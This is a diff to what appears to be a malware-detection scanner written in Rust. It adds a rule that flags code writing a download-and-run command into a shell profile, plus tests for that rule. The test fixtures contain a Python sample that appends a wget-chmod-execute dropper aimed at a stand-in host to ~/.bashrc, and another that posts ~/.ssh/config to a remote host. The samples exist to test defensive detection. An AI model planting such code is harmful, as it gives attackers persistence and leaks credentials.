@@ -135,6 +135,11 @@ pub const COMBINATIONS: &[Combination] = &[
         weight: 0.55,
     },
     Combination {
+        id: "combo:persistence-dropper",
+        description: "one function writes a download-and-run or recon command into a shell profile or autostart location",
+        weight: 0.5,
+    },
+    Combination {
         id: "combo:stolen-to-endpoint",
         description: "stealer-target access and an exfiltration endpoint in the same file",
         weight: 0.5,
@@ -293,6 +298,17 @@ fn combination_evidence<'f>(
             })?;
             findings.iter().find(|f| f.has_tag("net-send"))?;
             Some((steal, endpoint))
+        }
+        "combo:persistence-dropper" => {
+            // Installers add `export PATH=…` to a profile; a dropper command planted there runs
+            // at every login, so writing one is persistence whoever calls the function.
+            let drop = strongest(findings, |f| {
+                f.has_tag("drop-command") && f.context != ExecContext::TestOrDocs
+            })?;
+            let target = strongest(findings, |f| {
+                f.has_tag("autostart") && f.scope == drop.scope && f.path == drop.path
+            })?;
+            Some((drop, target))
         }
         "combo:stolen-to-endpoint" => {
             let steal = strongest(findings, |f| {
@@ -497,6 +513,18 @@ mod tests {
         let client = "import os, requests\ndef connect(host):\n    cfg = open(os.path.expanduser('~/.ssh/config')).read()\n    requests.post('https://' + host + '/api', data=cfg)\n";
         let s = score("x-1/x/client.py", client);
         assert!(!has(&s, "combo:credentials-uploaded"), "{s:?}");
+    }
+
+    #[test]
+    fn a_dropper_planted_in_a_shell_profile_is_malicious() {
+        let code = "import os\ndef colors():\n    rc = os.path.expanduser('~/.bashrc')\n    with open(rc, 'a') as f:\n        f.write('wget http://x.example/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &')\n";
+        let s = score("pkg/colors.py", code);
+        assert!(has(&s, "combo:persistence-dropper"), "{s:?}");
+        assert!(s.malware >= 0.7, "{s:?}");
+        let path_only = "import os\ndef setup_path():\n    rc = os.path.expanduser('~/.bashrc')\n    with open(rc, 'a') as f:\n        f.write('export PATH=$HOME/.local/bin:$PATH')\n";
+        let s = score("pkg/colors.py", path_only);
+        assert!(!has(&s, "combo:persistence-dropper"), "{s:?}");
+        assert!(s.malware < 0.7, "{s:?}");
     }
 
     #[test]
